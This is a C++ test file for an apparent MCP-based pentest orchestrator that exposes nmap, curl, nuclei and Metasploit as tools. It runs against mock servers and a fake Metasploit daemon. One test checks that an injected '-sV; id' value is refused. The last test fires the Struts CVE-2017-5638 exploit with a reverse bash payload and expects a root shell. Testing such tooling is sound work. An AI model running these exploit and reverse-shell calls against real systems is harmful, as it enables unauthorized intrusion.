#include <cstdlib>

#include "doctest.h"
#include "pentestmcp/orchestrator/client.hpp"
#include "pentestmcp/orchestrator/runner.hpp"
#include "support.hpp"

using namespace pentestmcp;
using namespace pentestmcp::orchestrator;

namespace {

std::vector<std::string> server_argv(const std::string& name, const std::string& scenario) {
  return {testsupport::tool("pentestmcp-" + name).string(), "--backend", "mock", "--scenario",
          (testsupport::source_dir() / "scenarios" / (scenario + ".json")).string()};
}

}  // namespace

TEST_SUITE("mcp client") {
  TEST_CASE("each server lists exactly its tools") {
    const std::map<std::string, std::vector<std::string>> expected = {
        {"nmap", {"nmap_scan"}},
        {"curl", {"curl_request"}},
        {"nuclei", {"nuclei_scan"}},
        {"metasploit",
         {"metasploit_search", "metasploit_info", "metasploit_module_payloads", "metasploit_payload_info",
          "metasploit_exploit", "metasploit_sessions", "metasploit_session_interact"}}};
    ServerConfig config;
    for (const auto& [name, _] : expected) config[name] = server_argv(name, "struts-5638");
    auto servers = spawn_servers(config, std::chrono::seconds(30));
    for (const auto& [name, tools] : expected) {
      CAPTURE(name);
      CHECK(servers.at(name)->tool_names() == tools);
      CHECK(servers.at(name)->server_info()["name"] == "pentestmcp-" + name);
    }
  }

  TEST_CASE("tool calls round-trip through a child process") {
    McpClient nmap("nmap", server_argv("nmap", "struts-5638"), std::chrono::seconds(30));
    auto r = nmap.call_tool("nmap_scan", {{"target", "10.138.0.19"}, {"options", "-sV"}});
    CHECK_FALSE(r.is_error);
    CHECK(r.text().find("Apache Tomcat/Coyote JSP engine 1.1") != std::string::npos);
    auto refused = nmap.call_tool("nmap_scan", {{"target", "10.138.0.19"}, {"options", "-sV; id"}});
    CHECK(refused.is_error);
    CHECK_THROWS_AS(nmap.call_tool("no_such_tool", json::object()), McpRemoteError);
  }

  TEST_CASE("a killed server fails the step that needed it") {
    ServerHandles servers;
    servers["nmap"] = std::make_unique<McpClient>("nmap", server_argv("nmap", "struts-5638"), std::chrono::seconds(30));
    servers["nmap"]->kill();
    Plan plan = parse_plan(R"({"name":"p","steps":[{"server":"nmap","tool":"nmap_scan",
      "arguments":{"target":"10.138.0.19"}}]})");
    auto report = run_plan(plan, {}, make_caller(servers));
    CHECK(report.outcome() == "failed-at-step 1");
    CHECK(report.records[0].status == StepStatus::tool_error);
    CHECK(report.records[0].response.find("server 'nmap'") != std::string::npos);

    Plan other = parse_plan(R"({"name":"p","steps":[{"server":"curl","tool":"curl_request","arguments":{}}]})");
    CHECK(run_plan(other, {}, make_caller(servers)).records[0].response == "no connection to server 'curl'");
  }

  TEST_CASE("startup failures name the server") {
    CHECK_THROWS_WITH_AS(McpClient("nmap", {"/nonexistent/pentestmcp-nmap"}),
                         doctest::Contains("server 'nmap' failed to start"), StartupError);
    CHECK_THROWS_WITH_AS(McpClient("curl", {"/bin/true"}, std::chrono::seconds(5)),
                         doctest::Contains("server 'curl' failed to start"), StartupError);
    CHECK_THROWS_WITH_AS(McpClient("nuclei", {"/bin/echo", "garbage"}, std::chrono::seconds(5)),
                         doctest::Contains("undecodable"), StartupError);
    ServerConfig config{{"metasploit", server_argv("metasploit", "no-such-scenario")}};
    CHECK_THROWS_AS(spawn_servers(config, std::chrono::seconds(10)), StartupError);
  }

  TEST_CASE("the metasploit server reaches a daemon over HTTP") {
    ChildProcess daemon({testsupport::tool("pentestmcp-fake-msfd").string(), "--scenario",
                         (testsupport::source_dir() / "scenarios" / "struts-5638.json").string(), "--listen", "0"});
    auto banner = daemon.read_line(std::chrono::seconds(10));
    REQUIRE(banner.has_value());
    REQUIRE(banner->rfind("listening on 127.0.0.1:", 0) == 0);
    std::string port = banner->substr(banner->rfind(':') + 1);

    ::setenv("MSF_PASSWORD", "lab-password", 1);
    McpClient msf("metasploit",
                  {testsupport::tool("pentestmcp-metasploit").string(), "--backend", "real", "--msf-port", port,
                   "--session-wait-ms", "2000", "--session-poll-ms", "50", "--read-poll-ms", "20"},
                  std::chrono::seconds(30));
    ::unsetenv("MSF_PASSWORD");
    auto search = msf.call_tool("metasploit_search", {{"query", "CVE-2017-5638"}});
    CHECK(search.text().find("struts2_content_type_ognl") != std::string::npos);
    auto exploit = msf.call_tool("metasploit_exploit",
                                 {{"module", "multi/http/struts2_content_type_ognl"},
                                  {"module_options", {{"RHOSTS", "10.138.0.19"}, {"RPORT", 80}}},
                                  {"payload", "cmd/unix/reverse_bash"},
                                  {"payload_options", {{"LHOST", "10.138.0.21"}, {"LPORT", 4444}}}});
    CHECK(exploit.text().find("Command shell session 1 opened") != std::string::npos);
    auto whoami = msf.call_tool("metasploit_session_interact", {{"session_id", 1}, {"command", "whoami"}});
    CHECK(whoami.text() == "root\n");
    daemon.kill();
  }
}
